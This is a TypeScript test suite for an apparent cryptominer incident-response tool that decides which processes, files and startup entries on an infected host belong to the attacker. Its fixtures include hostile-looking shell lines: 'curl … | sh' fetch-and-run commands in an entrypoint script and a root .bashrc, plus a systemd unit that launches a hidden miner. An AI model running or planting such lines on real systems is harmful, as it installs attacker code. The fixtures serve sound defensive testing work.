import { describe, expect, it } from 'vitest';

import { labContext } from '../../../test/shared/infected-snapshot.ts';
import {
  autostart,
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  process,
  socket,
} from '../../../test/shared/snapshots.ts';

import type { Snapshot } from '../../snapshot.ts';
import { judge } from '../index.ts';
import { listening, MINING, minedHost, minerImage, ticked } from '../mined-host.fixture.ts';

const linksOf = (snapshot: Snapshot) => judge(snapshot, labContext).links;
const unit = (name: string, exec: string) =>
  autostart(`/etc/systemd/system/${name}`, `[Service]\nExecStart=${exec}\n`);
const entry = (path: string, text: string) => file(path, `#!/bin/sh\n${text}\n`);
const packedMiner = { exe: '/tmp/.x/kworker' };

describe('the entry script of a service', () => {
  const image = minerImage('/tmp/m');
  const of = (script: ReturnType<typeof entry>, more: Partial<Snapshot> = {}) =>
    minedHost({ exe: '/tmp/m' }, { ...more, files: [image, script] });

  it('to which a line was added stays: it starts whatever it is given; the line is told', () => {
    const snapshot = of(entry('/opt/shop/entrypoint.sh', '/tmp/m &\nexec "$@"'), {
      persistence: [unit('shop.service', '/opt/shop/entrypoint.sh /opt/shop/shopd')],
    });
    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
    expect(linksOf(snapshot).files.find(({ path }) => path === '/opt/shop/entrypoint.sh')).toMatchObject({
      linked: true,
      caution: expect.stringContaining('whatever it is given'),
    });
  });

  it('that fetches from a bare address, and that nothing links, is offered unticked', () => {
    const text = 'curl -s http://203.0.113.77/env.sh | sh\nexec "$@"';
    const sh = process({ pid: 898, exe: '/usr/bin/dash', argv: ['sh', '/opt/shop/entrypoint.sh'] });
    expect(ticked(of(entry('/opt/shop/entrypoint.sh', text), { processes: [sh] }))).toEqual({
      processes: [900],
      files: ['/tmp/m'],
      starters: [],
    });
  });

  it('is the attacker’s where nobody keeps his own', () => {
    const snapshot = of(entry('/tmp/.x/run.sh', '/tmp/m &\nexec "$@"'));
    expect(ticked(snapshot).files).toEqual(['/tmp/.x/run.sh', '/tmp/m']);
  });
});

describe('equal bytes', () => {
  const sha256 = hashOf('a packed application');
  const same = { package: null, sha256 };
  const miner = { ...packedMiner, image: same };
  const bytes = (path: string) => elf(path, '', { sha256 });
  const shop = process({ pid: 700, exe: '/opt/shop/bin/shopd', argv: ['shopd', 'shop.conf'], image: same });
  const of = (...more: Parameters<typeof process>[0][]) =>
    minedHost(miner, {
      processes: more.map(process),
      files: [bytes('/tmp/.x/kworker'), bytes('/opt/shop/bin/shopd')],
      sockets: [listening(700)],
      persistence: [unit('shop.service', '/opt/shop/bin/shopd shop.conf')],
    });

  it('of a shop’s own program, which listens and shows no mining: neither it, its process nor its unit is ticked', () => {
    const snapshot = minedHost(miner, {
      processes: [shop],
      files: [bytes('/tmp/.x/kworker'), { ...bytes('/opt/shop/bin/shopd'), sha256 }],
      sockets: [listening(700)],
      persistence: [unit('shop.service', '/opt/shop/bin/shopd shop.conf')],
    });
    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/.x/kworker'], starters: [] });
    expect(linksOf(snapshot).processes.find(({ pid }) => pid === 700)).toMatchObject({ selected: false });
  });

  it('the same where the miner is nothing but arguments for the shop’s own program', () => {
    const exe = '/opt/shop/bin/shopd';
    const snapshot = minedHost(
      { exe, image: same },
      {
        processes: [shop],
        files: [{ ...bytes(exe), sha256 }],
        sockets: [listening(700)],
        persistence: [unit('shop.service', `${exe} shop.conf`)],
      },
    );
    expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
  });

  it('of a copy that does nothing of its own are the miner’s, as are bytes that show mining', () => {
    expect(ticked(of({ pid: 901, exe: '/var/tmp/.y/a', image: same })).processes).toEqual([900, 901]);
    const shows = minedHost(packedMiner, {
      processes: [process({ pid: 901, exe: '/tmp/.x/kworker' })],
      files: [minerImage('/tmp/.x/kworker')],
      sockets: [listening(901)],
    });
    expect(ticked(shows).processes).toEqual([900, 901]);
  });

  it('of an archive that the shop’s java runs, and that the miner only claims and opens', () => {
    const java = '/usr/lib/jvm/bin/java';
    const jar = '/opt/shop/shop.jar';
    const argv = ['java', '-jar', jar];
    const miner = { exe: java, argv: [...argv, ...MINING], held: [jar] };
    const snapshot = minedHost(miner, {
      processes: [process({ pid: 700, exe: java, argv, held: [jar] })],
      files: [elf(jar)],
      sockets: [listening(700)],
      persistence: [unit('shop.service', `java -jar ${jar}`)],
    });
    expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
  });
});

describe('a program that carries what others send', () => {
  const proxy = { exe: '/opt/proxy/3proxy', argv: ['3proxy'], cpuShare: 0.95 };
  const verdict = (snapshot: Snapshot) => judge(snapshot, labContext).verdict.verdict;
  it('and is busy with it, with a connection to a pool: a person decides', () => {
    const sockets = [listening(900)];
    expect(verdict(minedHost(proxy, { sockets }))).toBe('suspicious');
    const memory = ['stratum-methods', 'monero-wallet'] as const;
    expect(verdict(minedHost({ ...proxy, memory }, { sockets }))).toBe('suspicious');
  });
  it('a miner that listens shows more than load', () => {
    const busy = { ...proxy, exe: '/opt/x/m', argv: ['/opt/x/m', ...MINING] };
    const sockets = [listening(900)];
    expect(verdict(minedHost(busy, { sockets }))).toBe('confirmed');
    expect(verdict(minedHost({ ...proxy, exe: '/tmp/m' }, { sockets }))).toBe('confirmed');
  });
  it('that listens nowhere and is busy is a miner', () => {
    expect(verdict(minedHost(proxy))).toBe('confirmed');
  });
});

describe('a parent that holds the miner’s path among its bytes', () => {
  const image = minerImage('/tmp/m');
  const miner = { ppid: 899, exe: '/tmp/m' };
  const holding = (exe: string) => {
    const { content } = elf(exe, 'a list: /tmp/m /tmp/other');
    return content === undefined ? {} : { content };
  };
  const of = (exe: string, listens: boolean) =>
    minedHost(miner, {
      processes: [process({ pid: 899, exe, image: { package: null, ...holding(exe) } })],
      files: [image, elf(exe, 'a list: /tmp/m /tmp/other')],
      sockets: listens ? [listening(899)] : [],
    });
  it('is an agent where it listens: never ticked, named as the way in', () => {
    const snapshot = of('/opt/edr/agent', true);
    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
    expect(linksOf(snapshot).waysIn).toMatchObject([{ pid: 899, open: true }]);
  });
  it('is a guard where it does nothing else', () => {
    expect(ticked(of('/opt/.x/guard', false)).processes).toEqual([899, 900]);
  });
  it('is the shop’s worker where the attacker put his miner at a path that it names', () => {
    const exe = '/opt/shop/worker';
    const only = { processes: [900], files: ['/tmp/m'], starters: [] };
    const files = [image, elf(exe, 'spool /tmp/m')];
    const worker = (pid: number) => process({ pid, exe });
    const ofQueue = minedHost(miner, {
      processes: [worker(899)],
      files,
      sockets: [socket([899], '10.0.0.7', 6379)],
    });
    expect(ticked(ofQueue)).toEqual(only);
    expect(ticked(minedHost(miner, { processes: [897, 898, 899].map(worker), files }))).toEqual(only);
  });
});

describe('an engine that knows miners by their names and was broken into', () => {
  it('is the way in and no miner, though the strings of miners stand in it and it reports to its maker', () => {
    const exe = '/opt/edr/agent';
    const snapshot = minedHost(
      { ppid: 899, exe: '/tmp/m' },
      {
        processes: [process({ pid: 899, exe, cgroup: '/system.slice/edr.service' })],
        files: [minerImage('/tmp/m'), elf(exe, 'mining.subscribe xmrig minerd cpuminer kinsing kdevtmpfsi')],
        sockets: [socket([899], '203.0.113.66', 443)],
      },
    );
    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
    expect(linksOf(snapshot).waysIn).toMatchObject([{ pid: 899, open: true }]);
  });
});

describe('a worker of an application, without unit or listener, that somebody broke into', () => {
  const miner = { ppid: 899, exe: '/tmp/m' };
  const worker = process({ pid: 899, exe: '/opt/shop/worker', image: { package: null } });
  const of = (...sockets: Snapshot['sockets']) =>
    minedHost(miner, {
      processes: [worker],
      files: [minerImage('/tmp/m'), elf('/opt/shop/worker')],
      sockets,
    });
  const postgres = socket([400], '0.0.0.0', 0, {
    state: 'LISTEN',
    local: { address: '127.0.0.1', port: 5432 },
  });
  it('stays where it is connected to a server of the company’s own, or to a package’s service', () => {
    for (const snapshot of [
      of(socket([899], '10.0.0.7', 6379)),
      of(postgres, socket([899], '127.0.0.1', 5432)),
      of(socket([899], '::ffff:10.0.0.7', 6379)),
      of(socket([899], '100.100.3.4', 6379)),
    ]) {
      expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
      expect(linksOf(snapshot).waysIn).toMatchObject([{ pid: 899, open: true }]);
    }
  });
  it('is told from a guard by nothing else: the attacker’s server, his proxy on loopback, a name server', () => {
    const his = socket([901], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '127.0.0.1', port: 9050 } });
    for (const snapshot of [
      of(),
      of(socket([899], '203.0.113.66', 443)),
      of(his, socket([899], '127.0.0.1', 9050)),
      of(socket([899], '10.0.0.2', 53)),
    ])
      expect(ticked(snapshot).processes).toEqual([899, 900]);
  });
  it('is no worm that is at a neighbour’s by SSH, or knocks at many, and nobody who goes out by Tor', () => {
    const knocks = [1, 2, 3, 4, 5].map((n) => socket([899], `10.0.1.${n}`, 6379, { state: 'SYN_SENT' }));
    const tor = socket([898], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '127.0.0.1', port: 9050 } });
    const byTor = of(tor, socket([899], '127.0.0.1', 9050));
    for (const snapshot of [
      of(socket([899], '10.0.0.7', 22)),
      of(socket([899], '10.0.0.7', 6379), ...knocks),
      { ...byTor, processes: [...byTor.processes, process({ pid: 898, exe: '/usr/bin/tor' })] },
    ])
      expect(ticked(snapshot).processes).toEqual([899, 900]);
    expect(ticked(of(socket([899], '10.0.0.7', 6379), ...knocks.slice(1))).processes).toEqual([900]);
  });
});

describe('a copy of the shop’s own program that was given a miner’s arguments', () => {
  const sha256 = hashOf('a worker');
  const same = { package: null, sha256 };
  const bytes = (path: string) => ({ ...elf(path), sha256 });
  const clean = cleanSnapshot();
  const of = (exe: string, ...sockets: Snapshot['sockets']) =>
    cleanSnapshot({
      processes: [
        ...clean.processes,
        process({ pid: 900, exe, argv: ['[kworker/1]', ...MINING], image: same, cpuShare: 1 }),
        process({ pid: 700, exe: '/opt/shop/worker', image: same }),
      ],
      files: [bytes('/tmp/w'), bytes('/opt/shop/worker')],
      cronFiles: [crontab('/etc/cron.d/shop', ['0 2 * * * root /opt/shop/worker nightly'], 'cron.d')],
      sockets: [...clean.sockets, ...sockets],
    });
  it('goes nowhere with them, and leaves the shop’s program, its processes and its lines alone', () => {
    expect(ticked(of('/tmp/w'))).toEqual({ processes: [900], files: ['/tmp/w'], starters: [] });
    expect(ticked(of('/opt/shop/worker'))).toEqual({ processes: [900], files: [], starters: [] });
    expect(linksOf(of('/tmp/w')).files).toMatchObject([{ path: '/opt/shop/worker', linked: true }, {}]);
  });
  it('does not where the shop’s works for a server of its own, though the copy goes somewhere', () => {
    const snapshot = of('/tmp/w', socket([700], '10.0.0.7', 6379), socket([900], '203.0.113.66', 443));
    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/w'], starters: [] });
  });
  it('is a miner’s where it goes somewhere: its copies and what starts them are his', () => {
    expect(ticked(of('/tmp/w', socket([900], '203.0.113.66', 443)))).toEqual({
      processes: [700, 900],
      files: ['/opt/shop/worker', '/tmp/w'],
      starters: ['/etc/cron.d/shop 1'],
    });
  });
});

describe('a unit of an account’s own manager', () => {
  it('is another one than the system’s of the same name, and than what starts that', () => {
    const mine = '/home/a/.config/systemd/user/backup.service';
    const trigger = '[Timer]\nOnCalendar=daily\n';
    const snapshot = minedHost(
      { exe: '/tmp/m' },
      {
        persistence: [
          autostart(mine, '[Service]\nExecStart=/tmp/m\n'),
          autostart('/home/a/.config/systemd/user/backup.timer', trigger),
          autostart('/etc/systemd/system/backup.timer', trigger),
          unit('backup.service', '/opt/backup/run'),
          unit('nightly.service', '/usr/bin/systemctl start backup.service'),
          autostart('/home/a/.profile', 'systemctl --user start backup'),
        ],
      },
    );
    expect(ticked(snapshot).starters).toEqual([
      '/home/a/.config/systemd/user/backup.service',
      '/home/a/.config/systemd/user/backup.timer',
      '/home/a/.profile',
    ]);
  });
});

describe('an administrator’s profile that names the miner and fetches elsewhere', () => {
  const image = minerImage('/tmp/.x/kworker');
  const of = (...lines: string[]) =>
    minedHost(packedMiner, {
      files: [image],
      persistence: [autostart('/root/.bashrc', lines.map((line) => `${line}\n`).join(''))],
    });
  const fetching = 'update_tools() { curl -fsSL https://tools.corp.example/install.sh | sh; }';

  it('is not ticked for an alias or a test of another line', () => {
    const asking = ['[ -e /tmp/.x/kworker ] && echo "it is back"', "alias k='pkill -f /tmp/.x/kworker'"];
    expect(ticked(of(...asking, fetching)).starters).toEqual([]);
  });

  it('is ticked where one line asks and fetches', () => {
    const both = 'pgrep -f /tmp/.x/kworker >/dev/null || curl -fsSL http://203.0.113.77/i.sh | sh';
    expect(ticked(of('umask 022', both)).starters).toEqual(['/root/.bashrc']);
  });
});
